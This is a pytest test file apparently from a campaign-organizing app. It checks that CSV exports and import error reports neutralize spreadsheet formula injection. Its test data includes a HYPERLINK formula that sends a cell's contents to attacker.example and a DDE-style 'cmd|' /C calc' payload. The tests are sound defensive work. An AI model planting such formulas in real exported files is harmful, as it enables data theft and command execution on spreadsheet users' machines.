"""Files handed out cannot carry a formula into a spreadsheet: a person named
``=HYPERLINK(...)`` is exported as text, in the universe export (web and command line) and in
a voter import's report of rejected rows, while phone numbers and ordinary names stay whole."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from groundgame.core import exports
from groundgame.people import services
from groundgame.people.models import VoterImport, VoterImportRowError

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://attacker.example/?"&A2,"Click for details")'


def _rows(body: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body)))


def test_a_universe_export_neutralizes_formulas(campaign: Any, make_staff: Any, client_for: Any):
    services.person_create(
        actor=None,
        first_name=LINK,
        last_name="@SUM(1+1)*cmd|' /C calc'!A0",
        email="mallory@example.com",
        phone="+19195550100",
        org_unit_id=campaign.durham.pk,
    )
    universe = services.universe_save(actor=None, name="Everyone", filters={})
    admin = client_for(make_staff("ada", role="admin", unit=campaign.national))

    response = admin.get(f"/people/universes/{universe.pk}/export/")
    body = b"".join(response.streaming_content).decode()
    mallory = next(r for r in _rows(body) if r["email"] == "mallory@example.com")

    assert mallory["first_name"] == "'" + LINK
    assert mallory["last_name"].startswith("'@SUM")
    assert mallory["phone"] == "+19195550100"
    alice = next(r for r in _rows(body) if r["email"] == "alice@example.com")
    assert alice["first_name"] == "Alice"


def test_the_command_line_export_neutralizes_formulas(
    campaign: Any, tmp_path: Any, monkeypatch: pytest.MonkeyPatch
):
    from groundgame import cli

    services.person_create(actor=None, first_name="-2+3", last_name=LINK, email="m@example.com")
    services.universe_save(actor=None, name="Everyone", filters={})
    out = tmp_path / "everyone.csv"
    assert cli.main(["people", "export-universe", "Everyone", "--out", str(out)]) == 0
    row = next(r for r in _rows(out.read_text()) if r["email"] == "m@example.com")
    assert row["first_name"] == "'-2+3"
    assert row["last_name"] == "'" + LINK


def test_an_import_report_neutralizes_the_rejected_line(
    campaign: Any, make_staff: Any, client_for: Any
):
    run = VoterImport.objects.create(
        layout="nc", state="NC", voters_file="ncvoter.txt", fingerprint="x" * 64
    )
    VoterImportRowError.objects.create(
        run=run, file="voters", row_number=7, field="last_name", reason="missing", raw=LINK
    )
    admin = client_for(make_staff("ada", role="admin", unit=campaign.national))

    report = admin.get(f"/people/imports/{run.pk}/errors.csv").content.decode()

    (row,) = _rows(report)
    assert row["line"] == "'" + LINK
    assert row["row"] == "7"


@given(st.text())
def test_no_cell_starts_a_formula(value: str) -> None:
    cell = exports.neutralized(value)
    if cell.startswith(exports.FORMULA_STARTS):
        # Only a number may keep its sign: a spreadsheet reads it as the number it is.
        assert all(c.isdigit() or c in "+-. ()" for c in cell), cell
        assert any(c.isdigit() for c in cell), cell
    else:
        assert cell in (value, "'" + value)
    assert cell.endswith(value)


@given(st.one_of(st.integers(), st.floats(allow_nan=False), st.none(), st.dates()))
def test_other_cells_are_left_alone(value: Any) -> None:
    assert exports.neutralized(value) == value
